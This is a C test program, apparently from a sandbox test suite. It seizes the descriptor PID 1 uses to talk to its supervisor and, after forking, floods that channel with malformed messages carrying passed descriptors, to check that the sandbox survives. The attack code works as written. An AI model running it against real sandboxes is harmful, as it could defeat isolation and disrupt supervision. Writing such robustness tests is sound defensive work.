/*
 * Attack: takes the descriptor on which PID 1 talks with its supervisor, and tells it lies
 *	without an end.
 * Outcome: fail/sandbox-lost fail/other fail/status-lost timeout/time-limit
 */
#define _GNU_SOURCE
#include <stdint.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

/* Any number of descriptors with a message, of any kind. */
static void lie(int to, uint32_t kind, int count, size_t len)
{
	static char text[70000];
	union {
		struct cmsghdr align;
		char room[CMSG_SPACE(200 * sizeof(int))];
	} control = {.align = {.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS}};
	struct iovec iov = {text, len};
	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1};
	int *fds = (int *)CMSG_DATA(&control.align);

	memcpy(text, (uint32_t[3]){kind, 2, 0}, 12);
	for (int i = 0; i < count; i++)
		fds[i] = i % 3;
	if (count) {
		control.align.cmsg_len = CMSG_LEN(count * sizeof(int));
		msg.msg_control = &control;
		msg.msg_controllen = CMSG_SPACE(count * sizeof(int));
	}
	sendmsg(to, &msg, MSG_NOSIGNAL | MSG_DONTWAIT);
}

int main(void)
{
	int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
	int control = (int)syscall(SYS_pidfd_getfd, pidfd, 3, 0);

	if (control < 0)
		return 1;
	(void)!fork();
	for (uint32_t i = 0;; i++) {
		lie(control, i % 12, 0, 12);
		lie(control, i % 12, 1 + i % 200, 12);
		lie(control, i % 12, 0, 1 + i % 65000);
	}
}
